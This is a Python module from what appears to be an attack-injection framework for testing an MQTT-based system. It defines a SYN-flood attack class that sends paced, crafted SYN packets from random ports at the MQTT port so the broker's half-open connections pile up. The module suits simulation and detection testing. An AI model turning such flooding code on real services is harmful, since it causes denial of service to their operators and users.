"""SYN flood: connection requests that are never completed."""

from coldaisle_contracts.addressing import MQTT_PORT
from coldaisle_contracts.plan import Act
from coldaisle_injector import crafted
from coldaisle_injector.catalogue import Rogue, Scene
from coldaisle_injector.script import Script


class Attack(Rogue):
    """Sends SYNs from ports without a socket, so that the attacker's own kernel resets the answers."""

    def play(self, act: Act, scene: Scene) -> Script:
        """Send as many SYNs as the plan says."""
        ports = self.rng.sample(crafted.PORTS, round(act.amount))
        for due, port in zip(self.paced(act), ports, strict=True):
            yield due
            frame = crafted.syn(port, MQTT_PORT, self.rng.getrandbits(32))
            scene.foothold.send(frame, scene.notes, "syn")
        scene.notes.act(act.operation, act)
